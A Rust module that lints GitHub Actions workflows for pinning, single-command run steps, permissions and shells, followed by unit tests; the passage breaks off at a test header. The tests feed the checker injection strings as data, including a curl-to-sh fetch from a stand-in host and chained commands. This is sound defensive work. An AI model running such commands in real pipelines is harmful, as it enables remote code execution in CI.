//! The rules every GitHub Actions workflow of this repository follows, checked on the
//! parsed YAML, each finding named by file, line, job and step.
//!
//! - **pinned**: every `uses:` names a full 40-character commit SHA with the version in a
//!   comment on the same line (`actions/checkout@11bd…c683 # v4.2.2`); local actions and
//!   workflows (`./…`) and digest-pinned images (`docker://…@sha256:…`) are fine too.
//! - **thin run steps**: every `run:` is one line, either a `cargo xtask …` call or a
//!   set-up line from `SETUP_COMMANDS`; the logic lives in xtask, where it is tested.
//! - **no expressions in run**: no `${{ … }}` inside `run:` (a value that may come from a
//!   user reaches the shell through `env:` instead).
//! - **one command per run**: no command substitution (`$(`, backticks), no `$IFS`, no
//!   `;` `|` `&` `<` `>` `(` `)` outside quotes, no escapes (backslash; caret under cmd),
//!   no unclosed or typographic quotes, no control characters.
//! - **standard shells**: every `shell:` (a step's, a job's or the workflow's
//!   `defaults.run.shell`) is one of `SHELLS`.
//! - **bounded files**: a workflow file over `MAX_WORKFLOW_BYTES` is refused unread.
//! - **no persisted credentials**: `actions/checkout` runs with `persist-credentials: false`.
//! - **concurrency**: the workflow sets `concurrency` (at the top, or on every job); a
//!   reusable workflow (only `workflow_call`) runs in its caller's group instead.
//! - **least permissions**: the workflow's `permissions` grant reads only; a job's write
//!   scopes must be needed by one of its steps (see `WRITE_SCOPES`).

#![warn(missing_docs)]

use std::fmt;
use std::io::Read;

use camino::{Utf8Path, Utf8PathBuf};
use saphyr::{LoadableYamlNode, MarkedYamlOwned as Node, ScalarOwned, YamlDataOwned};

/// Set-up lines a `run:` step may hold besides `cargo xtask …`.
const SETUP_COMMANDS: [&str; 5] = [
    "cargo fmt ",
    "cargo clippy ",
    "cargo test ",
    "cargo build ",
    "rustup ",
];

/// The values `shell:` may take: GitHub's own shells. A custom one (`bash -e {0}`,
/// `sh -c '...' {0}`) is a command line of its own around every step.
const SHELLS: [&str; 6] = ["bash", "sh", "pwsh", "python", "cmd", "powershell"];

/// The write scopes a job may hold, and the steps that need each: an action (by
/// `owner/repo`) or a `cargo xtask` task line prefix (`release ` is the whole release,
/// `cargo xtask release <VERSION>`; see `READ_ONLY_TASKS`).
const WRITE_SCOPES: [(&str, &[&str]); 4] = [
    (
        "contents",
        &["cargo xtask release publish", "cargo xtask release "],
    ),
    ("id-token", &["actions/attest-build-provenance"]),
    ("attestations", &["actions/attest-build-provenance"]),
    ("pull-requests", &["cargo xtask coverage --comment"]),
];

/// Task lines that a prefix of `WRITE_SCOPES` covers but that write nothing: they never
/// justify a write scope.
const READ_ONLY_TASKS: [&str; 2] = ["cargo xtask release plan", "cargo xtask release build"];

/// The largest workflow file read. GitHub's workflows are a few kilobytes; parsing
/// YAML takes about forty times its size in memory, so a file of 50 MB would take
/// gigabytes before any rule could say it is wrong.
const MAX_WORKFLOW_BYTES: u64 = 2 << 20;

/// One broken rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// The workflow file.
    pub file: Utf8PathBuf,
    /// 1-based line.
    pub line: usize,
    /// The job's id, when the finding is inside a job.
    pub job: Option<String>,
    /// The step's name (or `#<n>`, 1-based), when the finding is about a step.
    pub step: Option<String>,
    /// What is wrong and what to do.
    pub message: String,
}

impl fmt::Display for Finding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}:", self.file, self.line)?;
        if let Some(job) = &self.job {
            write!(f, " job {job}")?;
            if let Some(step) = &self.step {
                write!(f, ", step {step}")?;
            }
            write!(f, ":")?;
        }
        write!(f, " {}", self.message)
    }
}

/// A workflow file that cannot be read as one.
#[derive(Debug, thiserror::Error)]
pub enum WorkflowError {
    /// Reading the file or the directory failed.
    // `reason`, not `source`: said once, in this message, rather than again as its cause.
    #[error("cannot read {path}: {reason}")]
    Io {
        /// The file or directory.
        path: Utf8PathBuf,
        /// The reason.
        reason: std::io::Error,
    },
    /// Larger than `MAX_WORKFLOW_BYTES`: refused before it is read or parsed.
    #[error(
        "{path} is {size} bytes: workflow files over {MAX_WORKFLOW_BYTES} bytes ({} MiB) are \
         refused before parsing; split it into smaller workflows",
        MAX_WORKFLOW_BYTES >> 20
    )]
    TooLarge {
        /// The file.
        path: Utf8PathBuf,
        /// Its size, or at least how much of it was read.
        size: u64,
    },
    /// Not YAML, or not a workflow.
    #[error("{path}: {message}")]
    Invalid {
        /// The file.
        path: Utf8PathBuf,
        /// What is wrong.
        message: String,
    },
}

/// A `run:` step of a workflow.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RunStep {
    /// The job's id.
    pub job: String,
    /// The step's name or `#<n>`.
    pub step: String,
    /// 1-based line of the command.
    pub line: usize,
    /// The command, trimmed.
    pub command: String,
}

/// A parsed workflow file.
pub struct Workflow {
    path: Utf8PathBuf,
    source: String,
    root: Node,
}

impl Workflow {
    /// Reads and parses the workflow at `path`; a file over `MAX_WORKFLOW_BYTES` is
    /// refused before it is read.
    pub fn read(path: &Utf8Path) -> Result<Self, WorkflowError> {
        let io = |reason| WorkflowError::Io {
            path: path.to_owned(),
            reason,
        };
        let too_large = |size| WorkflowError::TooLarge {
            path: path.to_owned(),
            size,
        };
        let file = std::fs::File::open(path).map_err(io)?;
        let size = file.metadata().map_err(io)?.len();
        if size > MAX_WORKFLOW_BYTES {
            return Err(too_large(size));
        }
        // Bounded whatever the size said (a pipe, a file still growing).
        let mut source = String::new();
        file.take(MAX_WORKFLOW_BYTES + 1)
            .read_to_string(&mut source)
            .map_err(io)?;
        if source.len() as u64 > MAX_WORKFLOW_BYTES {
            return Err(too_large(source.len() as u64));
        }
        Self::parse(path, source)
    }

    /// Parses `source`; `path` names it in findings. Over `MAX_WORKFLOW_BYTES` it is
    /// refused unparsed.
    pub fn parse(path: &Utf8Path, source: String) -> Result<Self, WorkflowError> {
        if source.len() as u64 > MAX_WORKFLOW_BYTES {
            return Err(WorkflowError::TooLarge {
                path: path.to_owned(),
                size: source.len() as u64,
            });
        }
        let invalid = |message: String| WorkflowError::Invalid {
            path: path.to_owned(),
            message,
        };
        let mut documents =
            Node::load_from_str(&source).map_err(|e| invalid(format!("not valid YAML: {e}")))?;
        let root = match documents.len() {
            1 => documents.remove(0),
            n => {
                return Err(invalid(format!(
                    "holds {n} YAML documents, a workflow is one"
                )));
            }
        };
        if root
            .data
            .as_mapping_get("jobs")
            .and_then(|j| j.data.as_mapping())
            .is_none()
        {
            return Err(invalid("has no `jobs` mapping: not a workflow".into()));
        }
        Ok(Workflow {
            path: path.to_owned(),
            source,
            root,
        })
    }

    /// The file.
    pub fn path(&self) -> &Utf8Path {
        &self.path
    }

    /// The names of the checks this workflow reports on a pull request, one per job as
    /// GitHub names the job's check run (its `name:`, else its id), in job order: what
    /// branch protection requires.
    ///
    /// Refused, because requiring them would block every pull request or name checks that
    /// never report: a workflow that does not run on `pull_request`; a matrix job (one
    /// check per combination); a job that calls a reusable workflow (`caller / callee`
    /// checks); a name made of an expression.
    pub fn required_checks(&self) -> Result<Vec<String>, WorkflowError> {
        let refused = |message: String| WorkflowError::Invalid {
            path: self.path.clone(),
            message: format!("cannot require its checks: {message}"),
        };
        if !self.runs_on_pull_requests() {
            return Err(refused(
                "the workflow does not run on pull_request, so its checks would never report \
                 on a pull request and every merge would wait for them"
                    .into(),
            ));
        }
        let mut checks: Vec<String> = Vec::new();
        for (id, job) in self.jobs() {
            let check = check_name(&id, job).map_err(refused)?;
            if !checks.contains(&check) {
                checks.push(check);
            }
        }
        if checks.is_empty() {
            return Err(refused("the workflow has no jobs".into()));
        }
        Ok(checks)
    }

    /// Whether `workflow_call` is the workflow's only trigger.
    fn only_called(&self) -> bool {
        let Some(on) = self.root.data.as_mapping_get("on") else {
            return false;
        };
        let events: Vec<&str> = if let Some(events) = on.data.as_mapping() {
            events
                .keys()
                .filter_map(|event| event.data.as_str())
                .collect()
        } else if let Some(events) = on.data.as_vec() {
            events
                .iter()
                .filter_map(|event| event.data.as_str())
                .collect()
        } else {
            on.data.as_str().into_iter().collect()
        };
        events == ["workflow_call"]
    }

    fn runs_on_pull_requests(&self) -> bool {
        let is_pull_request = |event: &Node| {
            matches!(
                event.data.as_str(),
                Some("pull_request" | "pull_request_target")
            )
        };
        let Some(on) = self.root.data.as_mapping_get("on") else {
            return false;
        };
        if let Some(events) = on.data.as_mapping() {
            events.keys().any(is_pull_request)
        } else if let Some(events) = on.data.as_vec() {
            events.iter().any(is_pull_request)
        } else {
            is_pull_request(on)
        }
    }

    /// Every `run:` step, in file order.
    pub fn run_steps(&self) -> Vec<RunStep> {
        let mut runs = Vec::new();
        for (job_id, job) in self.jobs() {
            for (label, step) in steps(job) {
                if let Some(run) = step.data.as_mapping_get("run") {
                    runs.push(RunStep {
                        job: job_id.clone(),
                        step: label,
                        line: run.span.start.line(),
                        command: run.data.as_str().unwrap_or_default().trim().to_owned(),
                    });
                }
            }
        }
        runs
    }

    /// The findings of every rule.
    pub fn check(&self) -> Vec<Finding> {
        let mut findings = Vec::new();
        self.check_workflow_level(&mut findings);
        for (job_id, job) in self.jobs() {
            self.check_job(&job_id, job, &mut findings);
        }
        findings.sort_by_key(|f| f.line);
        findings
    }

    fn jobs(&self) -> impl Iterator<Item = (String, &Node)> {
        self.root
            .data
            .as_mapping_get("jobs")
            .and_then(|jobs| jobs.data.as_mapping())
            .into_iter()
            .flatten()
            .map(|(id, job)| (id.data.as_str().unwrap_or("?").to_owned(), job))
    }

    fn finding(
        &self,
        line: usize,
        job: Option<&str>,
        step: Option<&str>,
        message: String,
    ) -> Finding {
        Finding {
            file: self.path.clone(),
            line,
            job: job.map(str::to_owned),
            step: step.map(str::to_owned),
            message,
        }
    }

    fn check_workflow_level(&self, findings: &mut Vec<Finding>) {
        let top = &self.root;
        if let Some(shell) = default_shell(top) {
            self.check_shell(shell, None, None, "defaults.run.shell", findings);
        }
        match top.data.as_mapping_get("permissions") {
            None => findings.push(self.finding(
                1,
                None,
                None,
                "no workflow-level `permissions`: set `permissions: contents: read` (or `{}`) and grant writes per job".into(),
            )),
            Some(permissions) => {
                for (scope, level, line) in scopes(permissions) {
                    if level != "read" && level != "none" {
                        findings.push(self.finding(
                            line,
                            None,
                            None,
                            format!("workflow-level permission {scope}: {level}: grant reads only here; a job that needs to write asks for it itself"),
                        ));
                    }
                }
            }
        }
        let every_job_has_concurrency = self
            .jobs()
            .all(|(_, job)| job.data.as_mapping_get("concurrency").is_some());
        // A called workflow runs inside its caller's group; the same group set here too
        // would wait for the caller itself and never start.
        if top.data.as_mapping_get("concurrency").is_none()
            && !every_job_has_concurrency
            && !self.only_called()
        {
            findings.push(self.finding(
                1,
                None,
                None,
                "no `concurrency`: set a group, so that two runs for the same ref (or version) never overlap".into(),
            ));
        }
    }

    fn check_job(&self, job_id: &str, job: &Node, findings: &mut Vec<Finding>) {
        if let Some(uses) = job.data.as_mapping_get("uses") {
            self.check_uses(uses, job_id, None, findings);
        }
        let job_shell = default_shell(job);
        if let Some(shell) = job_shell {
            self.check_shell(shell, Some(job_id), None, "defaults.run.shell", findings);
        }
        let job_shell = job_shell.or_else(|| default_shell(&self.root));
        let mut needs: Vec<String> = Vec::new();
        for (label, step) in steps(job) {
            if let Some(uses) = step.data.as_mapping_get("uses") {
                self.check_uses(uses, job_id, Some(&label), findings);
                let action = uses.data.as_str().unwrap_or_default();
                needs.push(action.split('@').next().unwrap_or_default().to_owned());
                if action.starts_with("actions/checkout@") {
                    let persisted = step
                        .data
                        .as_mapping_get("with")
                        .and_then(|with| with.data.as_mapping_get("persist-credentials"))
                        .map(scalar_text);
                    if persisted.as_deref() != Some("false") {
                        findings.push(self.finding(
                            uses.span.start.line(),
                            Some(job_id),
                            Some(&label),
                            "actions/checkout without `persist-credentials: false`: the token would stay in .git/config for every later step".into(),
                        ));
                    }
                }
            }
            let step_shell = step.data.as_mapping_get("shell");
            if let Some(shell) = step_shell {
                self.check_shell(shell, Some(job_id), Some(&label), "shell", findings);
            }
            if let Some(run) = step.data.as_mapping_get("run") {
                let command = run.data.as_str().unwrap_or_default();
                needs.push(command.trim().to_owned());
                let quoting = match step_shell.or(job_shell).map(scalar_text).as_deref() {
                    Some("cmd") => Quoting::Cmd,
                    _ => Quoting::Posix,
                };
                if let Some(message) = run_problem(command, quoting) {
                    findings.push(self.finding(
                        run.span.start.line(),
                        Some(job_id),
                        Some(&label),
                        message,
                    ));
                }
            }
        }
        if let Some(permissions) = job.data.as_mapping_get("permissions") {
            let calls_workflow = job.data.as_mapping_get("uses").is_some();
            for (scope, level, line) in scopes(permissions) {
                if level != "write" {
                    continue;
                }
                let justified = WRITE_SCOPES
                    .iter()
                    .find(|(name, _)| *name == scope)
                    .is_some_and(|(_, users)| {
                        needs.iter().any(|need| {
                            users.iter().any(|user| need.starts_with(user))
                                && !READ_ONLY_TASKS.iter().any(|task| need.starts_with(task))
                        })
                    });
                // A job that calls a reusable workflow passes the permissions its jobs
                // need; those jobs are checked in their own file.
                if !justified && !calls_workflow {
                    findings.push(self.finding(
                        line,
                        Some(job_id),
                        None,
                        format!("permission {scope}: write is not needed by any step of this job: remove it"),
                    ));
                }
            }
        }
    }

    /// A `shell:` (`key` names where it is) must be one of `SHELLS`.
    fn check_shell(
        &self,
        shell: &Node,
        job: Option<&str>,
        step: Option<&str>,
        key: &str,
        findings: &mut Vec<Finding>,
    ) {
        let value = scalar_text(shell);
        if !SHELLS.contains(&value.as_str()) {
            findings.push(self.finding(
                shell.span.start.line(),
                job,
                step,
                format!(
                    "{key}: `{value}` is not one of {}: a custom shell runs the step through a command line of its own",
                    SHELLS.join(", ")
                ),
            ));
        }
    }

    fn check_uses(&self, uses: &Node, job: &str, step: Option<&str>, findings: &mut Vec<Finding>) {
        let line = uses.span.start.line();
        let value = uses.data.as_str().unwrap_or_default();
        // A workflow or action of this repository, at the same commit: the older
        // workspace-relative form or GitHub's self-repository form.
        if value.starts_with("./") || value.starts_with("$/") {
            return;
        }
        if let Some(image) = value.strip_prefix("docker://") {
            if !image.contains("@sha256:") {
                findings.push(self.finding(
                    line,
                    Some(job),
                    step,
                    format!("{value}: pin the image by digest (@sha256:...)"),
                ));
            }
            return;
        }
        let Some((action, reference)) = value.rsplit_once('@') else {
            findings.push(self.finding(
                line,
                Some(job),
                step,
                format!("{value}: name a version, pinned to a full commit SHA"),
            ));
            return;
        };
        let is_sha = reference.len() == 40 && reference.bytes().all(|b| b.is_ascii_hexdigit());
        if !is_sha {
            findings.push(self.finding(
                line,
                Some(job),
                step,
                format!("{action}@{reference}: pin to the full 40-character commit SHA of that version, with the version in a comment (`@<sha> # {reference}`)"),
            ));
            return;
        }
        let source_line = self.source.lines().nth(line - 1).unwrap_or_default();
        let comment = source_line.split_once(" #").map(|(_, c)| c.trim());
        if comment.is_none_or(str::is_empty) {
            findings.push(self.finding(
                line,
                Some(job),
                step,
                format!("{action}@{reference}: say which version the SHA is in a comment on the same line (`# v1.2.3`)"),
            ));
        }
    }
}

/// `defaults.run.shell` of a workflow or a job.
fn default_shell(node: &Node) -> Option<&Node> {
    node.data
        .as_mapping_get("defaults")?
        .data
        .as_mapping_get("run")?
        .data
        .as_mapping_get("shell")
}

/// How a step's shell quotes: cmd knows double quotes only; bash, sh, PowerShell (and
/// the default, bash or pwsh by runner) single and double quotes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Quoting {
    Posix,
    Cmd,
}

/// What in a one-line `run:` could make the shell run anything but the one command it
/// starts with, each kind once, in the order found. Checked for every shell at once
/// where they differ: escapes (backslash, backtick, caret) are refused rather than
/// interpreted, and so is anything PowerShell reads as a quote.
fn shell_problems(command: &str, quoting: Quoting) -> Vec<String> {
    let mut problems: Vec<String> = Vec::new();
    let mut add = |problem: String| {
        if !problems.contains(&problem) {
            problems.push(problem);
        }
    };
    // Wherever they are: inside quotes too, the shell or PowerShell runs them.
    if command.contains("$(") {
        add("`$(` (command substitution)".into());
    }
    if command.contains('`') {
        add("a backtick (command substitution, or PowerShell's escape)".into());
    }
    if command.contains("$IFS") || command.contains("${IFS") {
        add("`$IFS` (a separator the shell makes from a variable)".into());
    }
    if command.contains([
        '\u{2018}', '\u{2019}', '\u{201a}', '\u{201b}', '\u{201c}', '\u{201d}', '\u{201e}',
    ]) {
        add("a typographic quote (PowerShell reads it as a quote)".into());
    }
    if command.chars().any(|c| c.is_control() && c != '\t') {
        add("a control character".into());
    }
    let mut quote = None;
    for c in command.chars() {
        match (quote, c) {
            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
            (Some('"'), '\\') => add("a backslash (shells escape differently)".into()),
            (Some(_), _) => {}
            (None, '\'') if quoting == Quoting::Posix => quote = Some(c),
            (None, '"') => quote = Some(c),
            (None, ';' | '|' | '&' | '<' | '>' | '(' | ')') => {
                add(format!("`{c}` outside quotes"));
            }
            (None, '\\') => add("a backslash (shells escape differently)".into()),
            (None, '^') if quoting == Quoting::Cmd => add("a caret (cmd's escape)".into()),
            (None, _) => {}
        }
    }
    if quote.is_some() {
        add("an unclosed quote".into());
    }
    problems
}

/// What is wrong with a `run:` command, if anything.
fn run_problem(command: &str, quoting: Quoting) -> Option<String> {
    let command = command.trim();
    if command.contains("${{") {
        return Some("`${{ }}` inside run: pass the value through `env:` and use the variable, so that no input is pasted into the shell".into());
    }
    if command.lines().count() > 1 {
        return Some("a multi-line script: put the logic in a cargo xtask task, where it is tested; a step runs one command".into());
    }
    let problems = shell_problems(command, quoting);
    if !problems.is_empty() {
        return Some(format!(
            "`{command}` holds {}: a step runs one command: pass values through `env:` and quote them (\"$NAME\")",
            problems.join(", ")
        ));
    }
    let allowed = command.starts_with("cargo xtask ")
        || SETUP_COMMANDS
            .iter()
            .any(|setup| command.starts_with(setup));
    (!allowed).then(|| {
        format!("`{command}` is neither a cargo xtask call nor a set-up line ({}): do the work in a task", SETUP_COMMANDS.map(str::trim).join(", "))
    })
}

/// Each step of a job with its label: the step's `name:`, else `#<n>`.
fn steps(job: &Node) -> Vec<(String, &Node)> {
    job.data
        .as_mapping_get("steps")
        .and_then(|steps| steps.data.as_vec())
        .into_iter()
        .flatten()
        .enumerate()
        .map(|(i, step)| {
            let label = text(step, "name").map_or_else(|| format!("#{}", i + 1), str::to_owned);
            (label, step)
        })
        .collect()
}

/// `(scope, level, line)` of a `permissions:` value; `write-all` / `read-all` as scope `*`.
fn scopes(permissions: &Node) -> Vec<(String, String, usize)> {
    match permissions.data.as_mapping() {
        Some(map) => map
            .iter()
            .map(|(scope, level)| {
                (
                    scope.data.as_str().unwrap_or("?").to_owned(),
                    scalar_text(level),
                    scope.span.start.line(),
                )
            })
            .collect(),
        None => {
            let all = scalar_text(permissions);
            let level = match all.as_str() {
                "read-all" => "read-all",
                "write-all" => "write",
                _ => "",
            };
            if level.is_empty() {
                Vec::new()
            } else {
                vec![("*".into(), level.into(), permissions.span.start.line())]
            }
        }
    }
}

/// The check a job reports, or why none can be required.
fn check_name(id: &str, job: &Node) -> Result<String, String> {
    if job.data.as_mapping_get("uses").is_some() {
        return Err(format!(
            "job `{id}` calls a reusable workflow: its checks are named `<caller> / <job>` \
             after the called workflow's jobs, which this file does not list"
        ));
    }
    if job
        .data
        .as_mapping_get("strategy")
        .and_then(|strategy| strategy.data.as_mapping_get("matrix"))
        .is_some()
    {
        return Err(format!(
            "job `{id}` runs a matrix: GitHub reports one check per combination, named \
             after its values, so no single name can be required; split it into jobs, or \
             require its checks by hand"
        ));
    }
    let Some(name) = job.data.as_mapping_get("name") else {
        return Ok(id.to_owned());
    };
    let Some(name) = name.data.as_str() else {
        return Err(format!("job `{id}` has a name that is not a string"));
    };
    if name.contains("${{") {
        return Err(format!(
            "job `{id}` is named by an expression ({name}), known only when it runs"
        ));
    }
    Ok(name.to_owned())
}

fn text<'a>(node: &'a Node, key: &str) -> Option<&'a str> {
    node.data.as_mapping_get(key)?.data.as_str()
}

/// A scalar as written: `false`, `read`, `3`.
fn scalar_text(node: &Node) -> String {
    match &node.data {
        YamlDataOwned::Value(scalar) => match scalar {
            ScalarOwned::String(s) => s.clone(),
            ScalarOwned::Boolean(b) => b.to_string(),
            ScalarOwned::Integer(i) => i.to_string(),
            ScalarOwned::FloatingPoint(f) => f.to_string(),
            ScalarOwned::Null => String::new(),
        },
        YamlDataOwned::Representation(text, _, _) => text.clone(),
        _ => String::new(),
    }
}

/// Every workflow file (`*.yml`, `*.yaml`) of `dir`, sorted.
pub fn workflow_files(dir: &Utf8Path) -> Result<Vec<Utf8PathBuf>, WorkflowError> {
    let io = |reason| WorkflowError::Io {
        path: dir.to_owned(),
        reason,
    };
    let mut files: Vec<Utf8PathBuf> = dir
        .read_dir_utf8()
        .map_err(io)?
        .map(|entry| entry.map(|e| e.path().to_owned()))
        .collect::<Result<_, _>>()
        .map_err(io)?;
    files.retain(|p| matches!(p.extension(), Some("yml" | "yaml")));
    files.sort();
    Ok(files)
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: &str = r#"name: CI
on: [push]
permissions:
  contents: read
concurrency:
  group: ci-${{ github.ref }}
jobs:
  gate:
    name: Quality gate
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
        with:
          persist-credentials: false
      - name: Gate
        run: cargo xtask ci
      - run: cargo fmt --all --check
  publish:
    runs-on: ubuntu-24.04
    permissions:
      contents: write
      id-token: write
      attestations: write
    steps:
      - uses: actions/attest-build-provenance@e8998f949152b193b063cb0ec769d69d929409be # v2.4.0
        with:
          subject-path: dist/*
      - run: cargo xtask release publish dist
  call:
    uses: ./.github/workflows/release.yml
    permissions:
      contents: write
"#;

    fn check(text: &str) -> Vec<String> {
        Workflow::parse(Utf8Path::new("ci.yml"), text.to_owned())
            .unwrap()
            .check()
            .iter()
            .map(ToString::to_string)
            .collect()
    }

    fn with(from: &str, to: &str) -> String {
        assert!(GOOD.contains(from), "{from}");
        GOOD.replacen(from, to, 1)
    }

    fn required(text: &str) -> Result<Vec<String>, String> {
        Workflow::parse(Utf8Path::new("ci.yml"), text.to_owned())
            .map_err(|error| error.to_string())?
            .required_checks()
            .map_err(|error| error.to_string())
    }

    #[test]
    fn required_checks_are_names_else_ids_in_job_order() {
        let workflow = "
name: CI
on:
  pull_request:
  push:
    branches: [main]
jobs:
  rust:
    name: Rust checks
    runs-on: ubuntu-24.04
    steps: [{ run: cargo test }]
  gate:
    runs-on: ubuntu-24.04
  coverage:
    name: 'Coverage'
    if: github.event_name == 'pull_request'
";
        assert_eq!(
            required(workflow).unwrap(),
            ["Rust checks", "gate", "Coverage"]
        );
    }

    #[test]
    fn required_checks_of_the_repository_ci_workflow() {
        let path = Utf8Path::new(env!("CARGO_MANIFEST_DIR")).join("../../.github/workflows/ci.yml");
        assert_eq!(
            Workflow::read(&path).unwrap().required_checks().unwrap(),
            ["Rust checks", "Quality gate", "Coverage"]
        );
    }

    #[test]
    fn required_checks_follow_every_trigger_form() {
        for on in [
            "on: pull_request",
            "on: [push, pull_request]",
            "on: { pull_request_target: {} }",
        ] {
            let workflow = format!("{on}\njobs:\n  a:\n    runs-on: x\n");
            assert_eq!(required(&workflow).unwrap(), ["a"], "{on}");
        }
        let error = required("on: push\njobs:\n  a:\n    runs-on: x\n").unwrap_err();
        assert_eq!(
            error,
            "ci.yml: cannot require its checks: the workflow does not run on pull_request, so \
             its checks would never report on a pull request and every merge would wait for them"
        );
    }

    #[test]
    fn jobs_whose_checks_cannot_be_required() {
        let refused =
            |job: &str| required(&format!("on: pull_request\njobs:\n  build:\n{job}")).unwrap_err();
        let matrix = refused("    strategy:\n      matrix:\n        os: [a, b]\n");
        assert!(
            matrix.starts_with("ci.yml: cannot require its checks: job `build` runs a matrix"),
            "{matrix}"
        );
        let reusable = refused("    uses: ./.github/workflows/build.yml\n");
        assert!(reusable.contains("calls a reusable workflow"), "{reusable}");
        let expression = refused("    name: build ${{ matrix.os }}\n");
        assert!(
            expression.contains("named by an expression"),
            "{expression}"
        );
        let not_text = refused("    name: [a]\n");
        assert!(
            not_text.contains("a name that is not a string"),
            "{not_text}"
        );
        // A strategy without a matrix is only fail-fast or max-parallel.
        let workflow = "on: pull_request\njobs:\n  build:\n    strategy:\n      fail-fast: false\n";
        assert_eq!(required(workflow).unwrap(), ["build"]);
        let empty = required("on: pull_request\njobs: {}\n").unwrap_err();
        assert!(empty.ends_with("the workflow has no jobs"), "{empty}");
    }

    #[test]
    fn a_workflow_that_follows_every_rule() {
        assert_eq!(check(GOOD), Vec::<String>::new());
        let workflow = Workflow::parse(Utf8Path::new("ci.yml"), GOOD.to_owned()).unwrap();
        let error = workflow.required_checks().unwrap_err().to_string();
        assert!(error.contains("does not run on pull_request"), "{error}");
        let runs = workflow.run_steps();
        assert_eq!(
            runs[0],
            RunStep {
                job: "gate".into(),
                step: "Gate".into(),
                line: 16,
                command: "cargo xtask ci".into()
            }
        );
        assert_eq!(runs[1].step, "#3");
    }

    #[test]
    fn unpinned_actions() {
        assert_eq!(
            check(&with(
                "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
                "actions/checkout@v4"
            )),
            [
                "ci.yml:12: job gate, step #1: actions/checkout@v4: pin to the full 40-character commit SHA of that version, with the version in a comment (`@<sha> # v4`)"
            ]
        );
        assert_eq!(
            check(&with(" # v4.2.2", "")),
            [
                "ci.yml:12: job gate, step #1: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683: say which version the SHA is in a comment on the same line (`# v1.2.3`)"
            ]
        );
        assert_eq!(
            check(&with(
                "uses: ./.github/workflows/release.yml",
                "uses: org/shared/.github/workflows/release.yml@main"
            )),
            [
                "ci.yml:30: job call: org/shared/.github/workflows/release.yml@main: pin to the full 40-character commit SHA of that version, with the version in a comment (`@<sha> # main`)"
            ]
        );
        assert_eq!(
            check(&with(
                "uses: ./.github/workflows/release.yml",
                "uses: $/.github/workflows/release.yml"
            )),
            Vec::<String>::new(),
            "the self-repository form names this repository at the same commit"
        );
    }

    #[test]
    fn run_steps_stay_thin() {
        assert_eq!(
            check(&with(
                "run: cargo xtask ci",
                "run: cargo xtask ci --base ${{ github.head_ref }}"
            )),
            [
                "ci.yml:16: job gate, step Gate: `${{ }}` inside run: pass the value through `env:` and use the variable, so that no input is pasted into the shell"
            ]
        );
        assert_eq!(
            check(&with(
                "run: cargo xtask ci",
                "run: |\n          deno task ci\n          echo done"
            )),
            [
                "ci.yml:17: job gate, step Gate: a multi-line script: put the logic in a cargo xtask task, where it is tested; a step runs one command"
            ]
        );
        assert_eq!(
            check(&with("run: cargo xtask ci", "run: deno task ci")),
            [
                "ci.yml:16: job gate, step Gate: `deno task ci` is neither a cargo xtask call nor a set-up line (cargo fmt, cargo clippy, cargo test, cargo build, rustup): do the work in a task"
            ]
        );
    }

    /// The message of the one finding of `GOOD` with `run: cargo xtask ci` made `run`.
    fn run_finding(run: &str) -> String {
        let found = check(&with("run: cargo xtask ci", &format!("run: {run}")));
        assert_eq!(found.len(), 1, "{run}: {found:#?}");
        found[0]
            .strip_prefix("ci.yml:16: job gate, step Gate: ")
            .unwrap_or_else(|| panic!("{}", found[0]))
            .to_owned()
    }

    #[test]
    fn run_steps_run_one_command_whatever_the_quoting() {
        let finding =
            run_finding(r#"cargo xtask coverage --base "$(curl -s https://x.invalid | sh)""#);
        assert!(finding.contains("`$(` (command substitution)"), "{finding}");
        for (run, what) in [
            ("cargo xtask ci `id`", "a backtick"),
            ("cargo xtask ci \"`id`\"", "a backtick"),
            ("cargo xtask ci $(id)", "`$(` (command substitution)"),
            ("cargo xtask ci '$(id)'", "`$(` (command substitution)"),
            ("cargo xtask ci $((1+1))", "`$(` (command substitution)"),
            ("cargo xtask ci$IFS-x", "`$IFS`"),
            ("cargo xtask ci${IFS}-x", "`$IFS`"),
            ("cargo xtask ci \"${IFS}\"", "`$IFS`"),
            ("cargo xtask ci; curl x.invalid", "`;` outside quotes"),
            ("cargo xtask ci && curl x.invalid", "`&` outside quotes"),
            ("cargo xtask ci & curl x.invalid", "`&` outside quotes"),
            ("cargo xtask ci | sh", "`|` outside quotes"),
            ("cargo xtask ci || sh", "`|` outside quotes"),
            ("cargo xtask ci \"a\";id", "`;` outside quotes"),
            ("cargo xtask ci > $GITHUB_ENV", "`>` outside quotes"),
            ("cargo xtask ci < /dev/null", "`<` outside quotes"),
            ("cargo xtask ci <(curl x.invalid)", "`<` outside quotes"),
            ("cargo xtask ci (iex x)", "`(` outside quotes"),
            ("cargo xtask ci \\; id", "a backslash"),
            ("cargo xtask ci \"\\\"; id; \\\"\"", "a backslash"),
            ("cargo xtask ci \"unclosed", "an unclosed quote"),
            ("cargo xtask ci 'unclosed", "an unclosed quote"),
            ("cargo xtask ci \u{2018}; id\u{2019}", "a typographic quote"),
            (
                "cargo xtask ci '\u{2018} ; id ; \u{2018}'",
                "a typographic quote",
            ),
            ("cargo xtask ci\u{7}x", "a control character"),
        ] {
            // Single-quoted in the YAML, so that the run line is exactly `run`.
            let finding = run_finding(&format!("'{}'", run.replace('\'', "''")));
            assert!(finding.contains(what), "{run}: {finding}");
            assert!(
                finding.ends_with(
                    "a step runs one command: pass values through `env:` and quote them (\"$NAME\")"
                ),
                "{run}: {finding}"
            );
        }
        // What the shell only passes on as arguments.
        for run in [
            "cargo xtask release \"$VERSION\" --ref \"${REF}\"",
            "cargo xtask ci 'a;b|c&d' \"e;f|g&h>i<j(k)\"",
            "cargo xtask release publish dist --ref \"$COMMIT\" # zizmor: ignore[use-trusted-publishing]",
            "cargo clippy --workspace --all-targets --locked -- -D warnings",
        ] {
            assert_eq!(
                check(&with(
                    "run: cargo xtask ci",
                    &format!("run: '{}'", run.replace('\'', "''"))
                )),
                Vec::<String>::new(),
                "{run}"
            );
        }
    }

    #[test]
